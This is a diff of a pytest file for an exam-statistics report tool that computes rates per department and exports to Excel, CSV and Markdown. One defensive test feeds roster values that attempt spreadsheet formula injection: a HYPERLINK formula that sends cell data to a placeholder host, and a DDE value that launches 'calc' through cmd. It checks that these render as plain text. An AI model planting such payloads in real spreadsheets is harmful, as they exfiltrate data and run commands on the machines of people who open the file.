@@ -6,6 +6,7 @@ roster 11, exempt 2 (MZ007, MZ010) -> required 9; participants MZ001 MZ002 MZ003
 passed MZ001 MZ002 (make-up at exactly 60) MZ003 (exactly 60) 0042 = 4; first attempt passed
 MZ001 MZ003 0042 = 3; excellent MZ001 (100) 0042 (exactly 90) = 2.
 """
+
 from __future__ import annotations
 
 import csv
@@ -17,10 +18,10 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 from openpyxl import load_workbook
+from test_records import EXAM, make_bureau
 
 from grader import records, report
 from grader.cli import cli
-from test_records import EXAM, make_bureau
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -42,25 +43,58 @@ def figures(entry):
 
 
 def test_total_figures(rep):
-    assert set(rep) >= {"year", "exam", "pass_mark", "total", "departments", "categories", "absent", "failed",
-                        "exempt", "questions"}
+    assert set(rep) >= {
+        "year",
+        "exam",
+        "pass_mark",
+        "total",
+        "departments",
+        "categories",
+        "absent",
+        "failed",
+        "exempt",
+        "questions",
+    }
     assert (rep["year"], rep["exam"], rep["pass_mark"]) == (2020, None, 60)
     assert figures(rep["total"]) == {
-        "required": 9, "exempt": 2, "participants": 5, "passed": 4, "first_attempt_passed": 3, "excellent": 2,
-        "participation_rate": pytest.approx(5 / 9), "pass_rate": pytest.approx(4 / 5),
-        "overall_pass_rate": pytest.approx(4 / 9)}
+        "required": 9,
+        "exempt": 2,
+        "participants": 5,
+        "passed": 4,
+        "first_attempt_passed": 3,
+        "excellent": 2,
+        "participation_rate": pytest.approx(5 / 9),
+        "pass_rate": pytest.approx(4 / 5),
+        "overall_pass_rate": pytest.approx(4 / 9),
+    }
 
 
 def test_department_figures_and_empty_denominators(rep):
     by = {d["department"]: d for d in rep["departments"]}
-    assert figures(by["办公室"]) == {"required": 3, "exempt": 0, "participants": 3, "passed": 3,
-                                    "first_attempt_passed": 2, "excellent": 1, "participation_rate": 1.0,
-                                    "pass_rate": 1.0, "overall_pass_rate": 1.0}
+    assert figures(by["办公室"]) == {
+        "required": 3,
+        "exempt": 0,
+        "participants": 3,
+        "passed": 3,
+        "first_attempt_passed": 2,
+        "excellent": 1,
+        "participation_rate": 1.0,
+        "pass_rate": 1.0,
+        "overall_pass_rate": 1.0,
+    }
     assert (by["社会救助科"]["participants"], by["社会救助科"]["passed"], by["社会救助科"]["pass_rate"]) == (1, 0, 0.0)
     # everyone in 政策法规科 is exempt: rates are null, not 0 and not a crash
-    assert figures(by["政策法规科"]) == {"required": 0, "exempt": 1, "participants": 0, "passed": 0,
-                                      "first_attempt_passed": 0, "excellent": 0, "participation_rate": None,
-                                      "pass_rate": None, "overall_pass_rate": None}
+    assert figures(by["政策法规科"]) == {
+        "required": 0,
+        "exempt": 1,
+        "participants": 0,
+        "passed": 0,
+        "first_attempt_passed": 0,
+        "excellent": 0,
+        "participation_rate": None,
+        "pass_rate": None,
+        "overall_pass_rate": None,
+    }
     # the parts add up to the whole
     for key in ("required", "exempt", "participants", "passed", "first_attempt_passed", "excellent"):
         assert sum(d[key] for d in rep["departments"]) == rep["total"][key]
@@ -77,8 +111,17 @@ def test_category_figures(rep):
 
 def test_lists(rep):
     assert [p["staff_id"] for p in rep["absent"]] == ["MZ008", "MZ009", "MZ005", "MZ006"]
-    assert rep["failed"] == [{"staff_id": "MZ004", "name": "刘洋", "department": "社会救助科", "category": "公务员",
-                              "attempts": 1, "best": 57.0, "hours": 0}]
+    assert rep["failed"] == [
+        {
+            "staff_id": "MZ004",
+            "name": "刘洋",
+            "department": "社会救助科",
+            "category": "公务员",
+            "attempts": 1,
+            "best": 57.0,
+            "hours": 0,
+        }
+    ]
     assert {(p["staff_id"], p["reason"]) for p in rep["exempt"]} == {("MZ007", "病假"), ("MZ010", "借调市局")}
     flagged = {f["staff_id"]: (f["flag"], f["counted"]) for f in rep["flagged"]}
     assert flagged == {"MZ003": ("late", True), "MZ009": ("impersonation", False)}
@@ -88,7 +131,8 @@ def test_questions_weakest_first_with_law_and_article(rep):
     assert [(q["question_id"], q["law"], q["article"], q["answered"], q["correct"]) for q in rep["questions"]] == [
         ("so-e-003", "社会团体登记管理条例", 10, 5, 1),
         ("sa-e-002", "社会救助暂行办法", 9, 5, 2),
-        ("bu-e-001", "殡葬管理条例", 4, 5, 5)]
+        ("bu-e-001", "殡葬管理条例", 4, 5, 5),
+    ]
     assert rep["questions"][0]["correct_rate"] == pytest.approx(0.2)
 
 
@@ -121,8 +165,9 @@ def test_paragraph_when_everything_is_done(tmp_path):
     path = tmp_path / "r.csv"
     path.write_text("工号,姓名,科室,类别\nA1,张三,办公室,公务员\nA2,李四,办公室,公务员\n", encoding="utf-8")
     records.import_roster(db, path)
-    path.write_text("staff_id,exam,score,max_score,submitted_at\nA1,p,60,100,2020-05-01\nA2,p,88,100,2020-05-01\n",
-                    encoding="utf-8")
+    path.write_text(
+        "staff_id,exam,score,max_score,submitted_at\nA1,p,60,100,2020-05-01\nA2,p,88,100,2020-05-01\n", encoding="utf-8"
+    )
     records.import_results(db, path)
     rep = report.build(db, 2020)
     assert rep["paragraph"] == "组织全局2名干部职工参加2020年学法用法知识考试，参与率与合格率均达到100%。"
@@ -130,7 +175,9 @@ def test_paragraph_when_everything_is_done(tmp_path):
 
 
 def test_paragraph_and_todo_while_incomplete(rep):
-    assert rep["paragraph"].startswith("组织全局9名干部职工参加2020年学法用法知识考试（另有2人按规定免考），实际参考5人，参与率55.6%；合格4人，合格率80%")
+    assert rep["paragraph"].startswith(
+        "组织全局9名干部职工参加2020年学法用法知识考试（另有2人按规定免考），实际参考5人，参与率55.6%；合格4人，合格率80%"
+    )
     assert rep["todo"] == "待办：4人尚未参加考试；1人未达合格分，需组织补考（名单见缺考名单、不合格名单）。"
 
 
@@ -170,7 +217,17 @@ def test_csv_export_opens_in_excel_encoding(rep, tmp_path):
 def test_xlsx_export_sheets_headers_charts(rep, tmp_path):
     report.write(rep, tmp_path / "统计.xlsx")
     wb = load_workbook(tmp_path / "统计.xlsx")
-    assert wb.sheetnames == ["汇总", "按科室", "按类别", "缺考名单", "不合格名单", "免考名单", "异常提交", "题目正确率", "人员明细"]
+    assert wb.sheetnames == [
+        "汇总",
+        "按科室",
+        "按类别",
+        "缺考名单",
+        "不合格名单",
+        "免考名单",
+        "异常提交",
+        "题目正确率",
+        "人员明细",
+    ]
     ws = wb["按科室"]
     assert [c.value for c in ws[1]][:4] == ["科室", "应考人数", "免考人数", "参考人数"]
     assert ws["H2"].value == 1 and ws["H2"].number_format == "0.0%"
@@ -181,6 +238,7 @@ def test_xlsx_export_sheets_headers_charts(rep, tmp_path):
 
 def test_xlsx_has_native_charts(rep, tmp_path):
     import zipfile
+
     report.write(rep, tmp_path / "统计.xlsx")
     charts = [n for n in zipfile.ZipFile(tmp_path / "统计.xlsx").namelist() if n.startswith("xl/charts/chart")]
     assert len(charts) == 3  # departments, categories, weakest questions
@@ -215,8 +273,9 @@ def test_cjk_font_found():
 def test_report_command(bureau, tmp_path):
     home, _ = bureau
     out = tmp_path / "统计.md"
-    r = CliRunner().invoke(cli, ["report", "--year", "2020", "-o", str(out), "-o", str(tmp_path / "统计.json"),
-                                 "--home", str(home)])
+    r = CliRunner().invoke(
+        cli, ["report", "--year", "2020", "-o", str(out), "-o", str(tmp_path / "统计.json"), "--home", str(home)]
+    )
     assert r.exit_code == 0, r.output
     assert "参与率55.6%" in r.output and "待办" in r.output
     assert out.exists() and (tmp_path / "统计.json").exists()
@@ -226,8 +285,21 @@ def test_report_command(bureau, tmp_path):
 
 def test_benchmark_script_smoke(tmp_path):
     """The benchmark at a tiny size: same figures as pandas, prints the timings."""
-    done = subprocess.run([sys.executable, str(ROOT / "benchmarks" / "bench_report.py"), "--staff", "300",
-                           "--results", "1500", "--dir", str(tmp_path)], capture_output=True, text=True, timeout=300)
+    done = subprocess.run(
+        [
+            sys.executable,
+            str(ROOT / "benchmarks" / "bench_report.py"),
+            "--staff",
+            "300",
+            "--results",
+            "1500",
+            "--dir",
+            str(tmp_path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert done.returncode == 0, done.stderr
     assert "figures agree with pandas" in done.stdout
 
@@ -237,8 +309,11 @@ def test_roster_text_is_never_a_formula_or_markup(tmp_path):
     home = tmp_path / "h"
     roster = tmp_path / "名册.csv"
     evil_name, evil_dept = '=HYPERLINK("http://x.invalid/?"&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"
-    roster.write_text(f"工号,姓名,科室,类别\nMZ900,\"{evil_name.replace(chr(34), chr(34) * 2)}\",{evil_dept},公务员\n"
-                      "MZ901,<b>王五</b>|x,-办公室,公务员\n", encoding="utf-8")
+    roster.write_text(
+        f'工号,姓名,科室,类别\nMZ900,"{evil_name.replace(chr(34), chr(34) * 2)}",{evil_dept},公务员\n'
+        "MZ901,<b>王五</b>|x,-办公室,公务员\n",
+        encoding="utf-8",
+    )
     runner = CliRunner()
     assert runner.invoke(cli, ["roster", "import", str(roster), "--home", str(home)]).exit_code == 0
     out = tmp_path / "r"
@@ -247,8 +322,8 @@ def test_roster_text_is_never_a_formula_or_markup(tmp_path):
         assert result.exit_code == 0, result.output
     wb = load_workbook(str(out) + ".xlsx")
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
-    assert any(c.value == evil_name for c in cells)                     # shown exactly as written ...
-    assert not [c.coordinate for c in cells if c.data_type == "f"]      # ... and never as a formula
+    assert any(c.value == evil_name for c in cells)  # shown exactly as written ...
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # ... and never as a formula
     people = report.people_csv_path(Path(str(out) + ".csv")).read_text(encoding="utf-8-sig")
     rows = list(csv.reader(people.splitlines()))
     for line in rows:
@@ -256,3 +331,13 @@ def test_roster_text_is_never_a_formula_or_markup(tmp_path):
     assert "'" + evil_name in [v for line in rows for v in line]
     md = Path(str(out) + ".md").read_text(encoding="utf-8")
     assert "<b>" not in md and "\\<b\\>" in md
+
+
+def test_screen_table_is_the_bureau_then_each_department(rep):
+    headers, rows = report.screen_table(rep)
+    assert headers == ["范围", "应考", "参考", "合格", "优秀", "参与率", "合格率", "总合格率"]
+    assert rows[0][:5] == ["全局", "9", "5", "4", "2"]
+    assert [r[0] for r in rows[1:]] == [d["department"] for d in rep["departments"]]
+    assert all(len(r) == len(headers) for r in rows)
+    notes = report.screen_notes(rep)
+    assert notes[0].startswith("缺考 ") and notes[1].startswith("年度报告段落：")
